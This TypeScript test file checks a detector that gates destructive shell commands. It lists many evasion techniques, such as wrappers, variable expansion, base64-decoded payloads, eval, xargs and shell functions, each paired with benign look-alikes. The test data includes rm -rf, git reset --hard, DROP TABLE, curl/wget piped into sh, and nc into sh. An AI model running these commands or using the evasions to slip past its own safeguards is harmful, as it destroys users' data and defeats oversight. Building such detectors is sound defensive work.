/**
 * Evasions of the destructive gate from issue 13 whose mechanisms are
 * closed: wrappers not known before (read as command runners), a program
 * named by a variable handed a script, `xargs` completing a wrapper from
 * stdin, cmd.exe's `/r`, glued switches, `@` and `if`/`for` bodies, shells reading stdin,
 * command words built by expansion, scripts carried in variables and
 * `xargs -I`, and words that name a JavaScript object's built-in members.
 * (The PowerShell CLI's spellings are in detect_powershell_test.ts.) Each destructive form has a benign look-alike that must pass.
 */

import { loadReadOnly, readOnlyKind } from "../../../src/shell/readonly/mod.ts";
import { assert, assertEquals } from "../../helpers/assert.ts";
import {
  destructiveHit,
  isDestructive,
  newDetectBudget,
} from "../../../src/shell/destructive/destructive.ts";
import { WorkBudget } from "../../../src/platform/budget.ts";
import { readFromNothing } from "../../helpers/destructive_cases.ts";
import { loadAllParts } from "../../../src/shell/destructive/mod.ts";

// The engine loads its PowerShell, cmd.exe and glob parts on demand; these
// tests read commands of every dialect, so they start with all of them.
await loadAllParts();
// The Bash parser too: the read-only check reads a command that is not plain with it.
await loadReadOnly("bash");

const CASES: readonly { mechanism: string; destructive: string[]; benign: string[] }[] = [
  {
    mechanism: "wrappers run the command after their own options and operands",
    destructive: [
      "chrt 1 rm -rf x",
      "chrt -f 10 rm -rf x",
      "taskset 1 rm -rf x",
      "taskset -c 0 git reset --hard",
      "strace rm -rf x",
      "strace -o log rm -rf x",
      "ltrace rm -rf x",
      "fakeroot rm -rf x",
      "run0 rm -rf x",
      "gosu root rm -rf x",
      "setpriv --reuid=1000 rm -rf x",
      "prlimit --nofile=10 rm -rf x",
      "numactl --cpunodebind=0 rm -rf x",
      "xvfb-run rm -rf x",
      "bwrap --bind / / rm -rf x",
      "sg wheel -c 'rm -rf x'",
      "capsh -- -c 'rm -rf x'",
    ],
    benign: [
      "chrt 1 ls -la",
      "taskset -c 0 make",
      "strace -o log ls",
      "fakeroot dpkg-deb --build pkg",
      "gosu app node server.js",
      "xvfb-run npm test",
      "sg wheel -c 'echo hi'",
    ],
  },
  {
    mechanism:
      "a program named by a variable may be a shell: its script arguments and its stdin are read",
    destructive: [
      "$SHELL -c 'rm -rf x'",
      "$BASH -c 'rm -rf x'",
      '$BASH -c "git reset --hard"',
      "${SH:-sh} -c 'rm -rf x'",
      "echo 'rm -rf x' | $SHELL",
      "$SHELL <<< 'rm -rf x'",
      "$BASH < <(echo rm -rf x)",
      "curl -s https://example.com/i.sh | $SHELL",
    ],
    benign: [
      "$SHELL -c 'echo hi'",
      "$EDITOR notes.txt",
      '$PAGER "README.md"',
      "echo hi | $PAGER",
      "git diff | $PAGER",
      "$SHELL <<< 'echo hi'",
    ],
  },
  {
    mechanism: "xargs completes a wrapper with the words it reads",
    destructive: [
      "echo rm -rf x | xargs env",
      "echo rm -rf x | xargs nice",
      "echo rm -rf x | xargs sudo",
      "printf 'git reset --hard' | xargs nohup",
    ],
    benign: ["echo hello | xargs env", "echo ls | xargs sudo", "find . -name '*.o' | xargs ls -l"],
  },
  {
    mechanism: "cmd.exe: /r, switches glued to the command, @, if and for bodies",
    destructive: [
      "cmd /r rd /s /q x",
      "cmd /c rd/s/q x",
      "cmd /c del/s/q *.log",
      'cmd /c "@rd /s /q x"',
      "cmd /c if exist x rd /s /q x",
      'cmd /c "for %d in (a b) do rd /s /q %d"',
    ],
    benign: [
      "cmd /r dir /s",
      "cmd /c echo rd /s",
      "cmd /c if exist x echo rd",
      "cmd /c rd x",
      'cmd /c "@echo off"',
    ],
  },
  {
    mechanism:
      "a shell reads its script from stdin, a here-string, /dev/stdin or a process substitution",
    destructive: [
      "bash < <(echo rm -rf x)",
      "bash < <(printf 'rm -rf x')",
      "bash /dev/stdin <<< 'rm -rf x'",
      "bash /dev/fd/0 <<< 'git reset --hard'",
      "sh /proc/self/fd/0 < <(echo rm -rf x)",
      "sh <<< 'rm -rf x'",
      "bash <(echo rm -rf x)",
      "cat <<'EOF' | bash\nrm -rf x\nEOF",
    ],
    benign: [
      "bash < <(echo ls -la)",
      "bash /dev/stdin <<< 'echo hi'",
      "sh <<< 'echo rm -rf x'",
      "bash <(echo make test)",
      "cat script.sh | bash",
      "diff <(ls a) <(ls b)",
    ],
  },
  {
    mechanism:
      "command words and options built by expansion are read with the values the line gives",
    destructive: [
      "x=r; ${x}m -rf x",
      "x=RM; ${x,,} -rf x",
      "x=rm; ${x^^} -rf x",
      "x=rmdir; ${x%dir} -rf x",
      "x=xrm; ${x#x} -rf x",
      "x=rx; ${x/x/m} -rf x",
      "x=rmrf; ${x:0:2} -rf x",
      "printf -v x rm; $x -rf x",
      "printf -v x '\\x72\\x6d'; $x -rf x",
      "for c in rm; do $c -rf x; done",
      "for c in ls rm; do $c -rf x; done",
      "select c in rm; do $c -rf x; done",
      "declare -n r=x; x=rm; $r -rf y",
      "y=rm; z=y; ${!z} -rf x",
      "mapfile -t a <<< rm; ${a[0]} -rf x",
      "readarray a < <(echo rm); ${a[0]} -rf x",
      "read -r c <<< rm; $c -rf x",
      "rm ${o:--rf} x",
      "rm ${o:=-rf} x",
      "o=1; rm ${o:+-rf} x",
      "x=git; y=reset; $x $y --hard",
      "a=ls; a=rm; $a -rf x",
      'set -- rm -rf x; "$@"',
      "hash -p /bin/rm zap; zap -rf x",
      "hash -p /usr/bin/git g; g reset --hard",
      "alias zap=rm; zap -rf x",
    ],
    benign: [
      "$EDITOR notes.txt",
      "echo ${x}",
      "x=RM; echo ${x,,} -rf x",
      "ls $(pwd)",
      "x=ls; $x -la",
      "for c in ls pwd; do $c; done",
      'for f in *.log; do rm "$f"; done',
      "printf -v x ls; $x -R",
      "rm -- ${o:-x}",
      "hash -p /bin/ls zap; zap -R x",
      "alias ll='ls -l'; ll -R",
      'read -r name; echo "$name"',
    ],
  },
  {
    mechanism:
      "a script carried in a variable is read with its value, or as unknown when the line sets none",
    destructive: [
      "x='rm -rf y'; bash -c \"$x\"",
      "x='rm -rf y'; sh <<< \"$x\"",
      "x='rm -rf y'; echo \"$x\" | sh",
      "x='rm -rf y'; eval \"$x\"",
      "x='git reset --hard'; eval $x",
      'bash -c "$x"',
      'eval "$CMD"',
      "eval $CMD",
      'sh <<< "$x"',
      'echo "$x" | sh',
      "sh -c '\"$@\"' _ rm -rf x",
      'read -r x < cmd.txt; eval "$x"',
    ],
    benign: [
      "x='ls -la'; bash -c \"$x\"",
      "x='echo hi'; eval \"$x\"",
      'eval "$(ssh-agent -s)"',
      "eval $(minikube docker-env)",
      'bash -c "echo $HOME"',
      'eval "echo $x"',
      'echo "$x" | cat',
    ],
  },
  {
    mechanism: "xargs -I puts each input line in place of its token",
    destructive: [
      "echo rm -rf x | xargs -I% sh -c %",
      "echo rm -rf x | xargs -I{} sh -c {}",
      "echo 'git reset --hard' | xargs -i sh -c '{}'",
      "printf 'rm -rf x\\n' | xargs --replace=@ bash -c @",
      "echo x | xargs -I{} rm -rf {}",
    ],
    benign: [
      "echo ls | xargs -I% sh -c %",
      "echo x | xargs -I{} sh -c 'echo {}'",
      "find . -name '*.ts' | xargs -I{} cp {} /tmp",
    ],
  },
  {
    mechanism: "options written by an echo or printf substitution are read as that output",
    destructive: [
      "rm $(echo -rf) x",
      "rm $(echo -r) x",
      "rm `printf -- -rf` x",
      "git reset $(echo --hard)",
      "git push origin $(printf '%s' --force)",
      "x=-rf; rm $(echo $x) y",
    ],
    benign: [
      "ls $(pwd)",
      "rm $(find . -name '*.o')",
      "git add $(git ls-files -m)",
      "echo $(echo -rf)",
      "rm -f $(echo a b)",
      "git log $(echo --oneline)",
    ],
  },
  {
    mechanism:
      "text decoded on its way into a shell, an interpreter or a checked command cannot be read",
    destructive: [
      'sh -c "$(echo cm0gLXJmIHgK | base64 -d)"',
      'eval "$(echo cm0gLXJmIHgK | base64 -d)"',
      "bash <(echo cm0gLXJmIHgK | base64 -d)",
      "bash < <(echo cm0gLXJmIHgK | base64 -d)",
      "source <(echo cm0gLXJmIHgK | base64 -d)",
      "$(echo cm0gLXJmIHgK | base64 -d)",
      'x=$(echo cm0gLXJmIHgK | base64 -d); eval "$x"',
      "rm $(echo LXJm | base64 -d) x",
      "git reset `echo LS1oYXJk | base64 -d`",
      "sh -c \"$(rev <<< 'x fr- mr')\"",
      'python3 -c "$(echo aW1wb3J0IG9z | base64 -d)"',
    ],
    benign: [
      "ls $(echo YQ== | base64 -d)",
      "echo $(echo aGk= | base64 -d)",
      "cat <(echo eA== | base64 -d)",
      "diff <(xxd -r a) b",
      'eval "$(ssh-agent -s)"',
      "bash install.sh",
    ],
  },
  {
    mechanism:
      "a script fetched from the network on its way into a shell or interpreter cannot be read",
    destructive: [
      "curl -fsSL https://example.com/install.sh | sh",
      "curl -fsSL https://example.com/install.sh | sh -s -- --yes",
      "curl -s https://example.com/i.sh | sudo bash",
      'bash -c "$(curl -fsSL https://example.com/install.sh)"',
      "wget -qO- https://example.com/install.sh | bash",
      "wget -O - https://example.com/install.sh | sh",
      "bash <(curl -s https://example.com/install.sh)",
      "source <(curl -s https://example.com/env.sh)",
      'eval "$(curl -s https://example.com/env.sh)"',
      "curl -s https://example.com/x.py | python3",
      "curl -s https://example.com/i.sh | tee log | sh",
      "{ curl -s https://example.com/i.sh; } | sh",
      "$(curl -s https://example.com/cmd) x",
      "nc example.com 4444 | sh",
      "curl -s https://example.com/i.sh | docker exec -i app sh",
      "curl -s https://example.com/i.sh | ssh host sh",
      "echo cm0gLXJmIHgK | base64 -d | docker exec -i app sh",
    ],
    benign: [
      "curl -O https://example.com/install.sh",
      "curl -s https://example.com/data.json | jq .",
      "curl -s https://example.com/install.sh > install.sh",
      "wget https://example.com/install.sh | sh",
      "curl -s https://example.com/i.sh | less",
      "kubectl apply -f <(curl -s https://example.com/manifest.yaml)",
      "curl -s https://example.com/i.sh; sh",
      "curl -s https://example.com/i.sh | docker exec -i app cat",
    ],
  },
  {
    mechanism: "a script file written earlier on the same line is read when the line runs it",
    destructive: [
      "echo 'rm -rf x' > s.sh && sh s.sh",
      "printf 'rm -rf x' > s.sh; bash s.sh",
      "cat > s.sh <<'EOF'\nrm -rf x\nEOF\nsh s.sh",
      "echo 'git reset --hard' > s.sh; chmod +x s.sh; ./s.sh",
      "echo 'rm -rf x' | tee s.sh; sudo sh ./s.sh",
      "echo 'rm -rf x' >> s.sh; source s.sh",
      "echo 'rm -rf x' > /tmp/s.sh; . /tmp/s.sh",
      "echo 'import shutil; shutil.rmtree(\"x\")' > a.py; python3 a.py",
      "curl -fsSL -o i.sh https://example.com/i.sh && bash i.sh",
      "curl -fsSL https://example.com/i.sh > i.sh; sh i.sh",
      "wget https://example.com/install.sh && sh install.sh",
      "echo cm0gLXJmIHgK | base64 -d > s.sh; sh s.sh",
      "echo 'rm -rf x' > s.sh; sh < s.sh",
      "echo 'DROP TABLE users' > d.sql; psql < d.sql",
      "curl -s https://example.com/i.sh > i.sh; bash < i.sh",
    ],
    benign: [
      "echo 'ls -la' > s.sh && sh s.sh",
      "echo 'rm -rf x' > notes.txt; sh s.sh",
      "echo 'rm -rf x' > s.sh; cat s.sh",
      "echo 'print(1)' > a.py; python3 a.py",
      "echo 'SELECT 1' > q.sql; psql < q.sql",
      "echo 'rm -rf x' > s.sh; wc -l < s.sh",
      "curl -fsSL -o data.json https://example.com/d.json && sh build.sh",
      "sh s.sh",
    ],
  },
  {
    mechanism:
      "a pipe into a group or compound feeds every command in it, and a group writes what all of its commands write",
    destructive: [
      "echo 'rm -rf x' | { sh; }",
      "echo 'rm -rf x' | { true; sh; }",
      "echo 'rm -rf x' | (true; sh)",
      "echo 'rm -rf x' | if true; then sh; fi",
      "echo 'rm -rf x' | while read -r l; do true; done; echo 'git reset --hard' | { :; bash; }",
      "{ echo 'rm -rf x'; true; } | sh",
      "{ echo x | base64 -d; } | sh",
    ],
    benign: [
      "echo 'rm -rf x' | { cat; }",
      "echo 'rm -rf x' | { true; }; sh",
      "{ echo 'rm -rf x'; }; sh",
      'echo hi | { read -r l; echo "$l"; }',
    ],
  },
  {
    mechanism:
      "a program named by an unset variable counts when its arguments only fit rm -rf or a destructive git command",
    destructive: ["$x reset --hard", "$x -rf y", "${x} push --force", "$RUN clean -fdx"],
    benign: [
      "$EDITOR notes.txt",
      "$MAKE clean",
      "$CC -o x x.c",
      "$GREP -r foo .",
      "$GIT log --oneline",
      "$GIT checkout -b feat",
    ],
  },
  {
    mechanism: "package and project runners are wrappers: the command they run is read",
    destructive: [
      "npm exec -- rm -rf x",
      "npm x -- git reset --hard",
      "npm exec -c 'rm -rf x'",
      "pnpm exec rm -rf x",
      "pnpm --filter app exec rm -rf dist",
      "pnpm dlx --package=foo rm -rf x",
      "pnpm exec -c 'rm -rf x'",
      "yarn dlx rm -rf x",
      "yarn exec -- git push --force",
      "bun x rm -rf x",
      "bun exec 'rm -rf x'",
      "bunx rm -rf x",
      "bundle exec rm -rf x",
      "bundle exec git reset --hard",
      "uv run -- rm -rf x",
      "uvx --from foo rm -rf x",
      "poetry run rm -rf x",
      "pipenv run git reset --hard",
    ],
    benign: [
      "npm install",
      "npm run build",
      "npm exec -- eslint .",
      "pnpm exec vitest",
      "yarn dlx create-react-app x",
      "yarn exec echo rm -rf x",
      "bun x prettier --write .",
      "bundle exec rspec",
      "uv run pytest",
      "poetry run python -m pytest",
    ],
  },
  {
    mechanism:
      "a help request before any operand is read-only; after an operand or --, or in another command, it clears nothing",
    destructive: [
      "git reset --hard -- --help",
      "rm -rf x --help",
      "rm -rf -- --help",
      "git commit --amend -m -h",
      "rm -rf --help; rm -rf x",
      "echo --help; git reset --hard",
      "git reset --hard ${x:---help}",
      "rsync -a --delete a/ b/ -- --help",
      "psql -c 'DROP TABLE x' --help",
      "git stash drop",
      "dropdb mydb",
    ],
    benign: [
      "git stash drop --help",
      "git stash drop -h",
      "git reflog expire --help",
      "dropdb --help",
      "git reset --hard --help",
      "git reset --hard -h",
      "git push --force --help",
      "git push origin main --force --help",
      "rm -rf --help x",
      "shred --help",
      "psql --help -c 'DROP TABLE x'",
      "rsync -a --delete --help a/ b/",
    ],
  },
  {
    mechanism:
      "an argument only known at run time, where an option may stand, is read as the worst option",
    destructive: [
      "rm $o x",
      'rm "$f"',
      "rm ${o:-x}",
      "rm -$o x",
      "rm --$o x",
      'rm "$@" x',
      'rm "${opts[@]}" x',
      "rm $(cat flags.txt) x",
      "rm `some-tool` x",
      "rm $a$b x",
      "git reset $o",
      'git reset "$@"',
      "git push origin main $f",
      "git clean $(tool)",
      "git stash $x",
      "git $x --hard",
      "git -C repo $sub --force",
      "rm $(find . -printf '-rf ')",
      "rsync -a $o src/ dst/",
      "dd if=disk.img $o",
      "git gc $o",
      "git push origin $(git rev-parse --sq-quote -f)",
    ],
    benign: [
      "ls $o x",
      "echo $o",
      'rm -- "$f"',
      'rm ./"$f"',
      'rm "$HOME/notes.txt"',
      "rm -f $(find . -name '*.o')",
      'rm "$(mktemp)"',
      "rm $((1 + 2))",
      "rm $#",
      'git commit -m "$msg"',
      'git log "$ref"',
      "git add $(git ls-files -m)",
      'git -C "$dir" status',
      'git checkout -b "$branch"',
      'cat "$f"',
      'grep -r "$pattern" .',
      'find . -name "$pattern"',
      'git push -u origin "$(git branch --show-current)"',
      "git reset $(git rev-parse --abbrev-ref HEAD)",
      'rm "$(git rev-parse --show-toplevel)"',
      "redis-cli get $key",
      'terraform apply "$PLAN"',
      "bq query $sql",
    ],
  },
  {
    mechanism: "a function defined on the line runs its body with the arguments of each call",
    destructive: [
      'zap() { rm "$@"; }; zap -rf x',
      'function zap { git reset "$@"; }; zap --hard',
      "function zap() { rm $1 $2; }; zap -r x",
      'z() { git push "$@"; }\nz --force origin main',
      'a() { rm "$@"; }; b() { a -r "$@"; }; b x',
      'read() { rm "$@"; }; read -rf x',
      'z() { rm "$*"; }; z -rf',
      'f() { rm "$@"; }; f $o x',
    ],
    benign: [
      'f() { ls "$@"; }; f -la',
      'f() { rm "$@"; }; f x.txt',
      'f() { git reset "$@"; }; f --soft HEAD~1',
      'f() { rm -- "$@"; }; f -rf',
      'f() { f "$@"; }; f -rf',
      'greet() { echo "hello $1"; }; greet -rf',
    ],
  },
  {
    mechanism:
      "a word naming a built-in member of a JavaScript object is a plain word to every table",
    destructive: [
      "git -c alias.constructor='reset --hard' constructor",
      "git -c alias.tostring='!rm -rf x' toString",
      "alias __proto__=rm; __proto__ -rf x",
      "hash -p /bin/rm constructor; constructor -rf x",
      "sudo -u __proto__ rm -rf x",
      "docker __proto__ rm -rf x",
      "constructor; rm -rf x",
      "valueOf && git reset --hard",
      // An unknown program may run its arguments, whatever its name.
      "constructor rm -rf x",
      "toString rm -rf x",
    ],
    benign: [
      "git constructor",
      "git __proto__ --hard",
      "git hasOwnProperty",
      "constructor x -rf y",
      "__proto__ -rf x",
      "toString x -rf y",
      "npm constructor -- rm -rf x",
      "kubectl constructor",
    ],
  },
];

/** Benign commands put before every case: none may change its verdict. */
const PREFIXES = ["ls; ", "echo hi\n", "FOO=1 true; ", "x=ls; "];

for (const c of CASES) {
  Deno.test(`[destructive-bash-gate] ${c.mechanism}`, () => {
    const missed = c.destructive.filter((cmd) => !isDestructive("bash", cmd, []));
    const flagged = c.benign.filter((cmd) => isDestructive("bash", cmd, []));
    const readOnly = c.destructive.filter((cmd) => readOnlyKind("bash", cmd) !== null);
    assertEquals({ missed, flagged, readOnly }, { missed: [], flagged: [], readOnly: [] });
  });
}

Deno.test("[destructive-bash-gate] a benign prefix never changes the verdict of an evasion or its look-alike", () => {
  const changed: string[] = [];
  for (const prefix of PREFIXES) {
    for (const c of CASES) {
      // `x=ls; ` gives a variable a value, which is what some cases test: skip those.
      const uses = (cmd: string) => /\$\{?x\b|\bx=/.test(cmd);
      for (const cmd of c.destructive) {
        if (!(prefix.startsWith("x=") && uses(cmd)) && !isDestructive("bash", prefix + cmd, [])) {
          changed.push(prefix + cmd);
        }
      }
      for (const cmd of c.benign) {
        if (!(prefix.startsWith("x=") && uses(cmd)) && isDestructive("bash", prefix + cmd, [])) {
          changed.push(prefix + cmd);
        }
      }
    }
  }
  assertEquals(changed, []);
});

Deno.test("[fail-to-deny] every evasion and look-alike is read within a bound of its length", () => {
  for (const c of CASES) {
    for (const cmd of [...c.destructive, ...c.benign]) {
      const command = `${"echo a; ".repeat(200)}${cmd}`;
      const work = new WorkBudget();
      destructiveHit("bash", command, [], undefined, newDetectBudget(work));
      assert(work.spent <= 4 * command.length, `${cmd}: ${work.spent} units for ${command.length}`);
    }
  }
});

Deno.test("[fail-to-deny] in text read crudely a help or dry-run word disarms nothing", () => {
  // Wrappers past the depth bound leave the command to the raw token scan,
  // which cannot tell a substitution's `--help` from an argument.
  const deep = "nice ".repeat(10);
  for (
    const tail of [
      "rm -rf $(--help) x",
      "rsync -a --delete a/ b/ $(--dry-run)",
    ]
  ) {
    assertEquals(isDestructive("bash", deep + tail, []), true, tail);
  }
  assertEquals(isDestructive("bash", deep + "ls --help", []), false);
});

Deno.test("[lazy-loading] every evasion and look-alike read with no part of the engine loaded gets the fully loaded answer for the same work", async () => {
  const commands = CASES.flatMap((c) => [...c.destructive, ...c.benign]);
  assertEquals((await readFromNothing("bash", commands)).differ, []);
});
